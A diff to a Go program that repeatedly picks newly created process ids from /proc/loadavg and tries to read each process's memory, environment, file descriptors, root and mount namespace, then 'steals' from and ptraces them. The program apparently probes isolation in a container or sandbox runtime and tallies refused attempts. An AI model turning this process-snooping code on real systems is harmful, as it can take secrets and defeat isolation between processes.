@@ -21,7 +21,7 @@ func pry([]string) error {
 	fmt.Println("prying")
 	refused := map[string]int{}
 	runtime.LockOSThread() // ptrace(2) is the thread's
-	for next := 2; ; {
+	for {
 		select {
 		case <-term:
 			for what, n := range refused {
@@ -30,25 +30,34 @@ func pry([]string) error {
 			return nil
 		default:
 		}
-		// Pids count up: the next process will be the next number or one of
-		// those after it. Looking at all of /proc would be too slow.
-		for pid := next; pid < next+8; pid++ {
-			if attack(pid, refused) {
-				next = pid
-			}
+		// Pids count up. Looking at all of /proc would be too slow.
+		last := lastPid()
+		for pid := max(2, last-3); pid < last+3; pid++ {
+			attack(pid, refused)
 		}
 	}
 }
 
-// attack tries everything on pid. It reports whether there is such a process.
-func attack(pid int, refused map[string]int) bool {
+// lastPid is the process id given out last, proc_loadavg(5).
+func lastPid() int {
+	text, _ := os.ReadFile("/proc/loadavg")
+	fields := strings.Fields(string(text))
+	if len(fields) == 0 {
+		return 0
+	}
+	n, _ := strconv.Atoi(fields[len(fields)-1])
+	return n
+}
+
+// attack tries everything on pid, if there is such a process.
+func attack(pid int, refused map[string]int) {
 	proc := "/proc/" + strconv.Itoa(pid) + "/"
 	comm, err := os.ReadFile(proc + "comm")
 	if err != nil {
-		return false
+		return
 	}
 	if _, err := os.Stat("/proc/self/task/" + strconv.Itoa(pid)); err == nil {
-		return false // a thread of ours
+		return // a thread of ours
 	}
 	stage := strings.HasPrefix(string(comm), "runtime:") || strings.HasPrefix(string(comm), "exe")
 	for _, name := range []string{"exe", "mem", "environ", "maps", "fd", "cwd", "root", "ns/mnt", "map_files", "task/" + strconv.Itoa(pid) + "/fd"} {
@@ -58,7 +67,6 @@ func attack(pid int, refused map[string]int) bool {
 	}
 	steal(pid, stage, refused)
 	trace(pid, stage, refused)
-	return true
 }
 
 // look opens a file of another process.
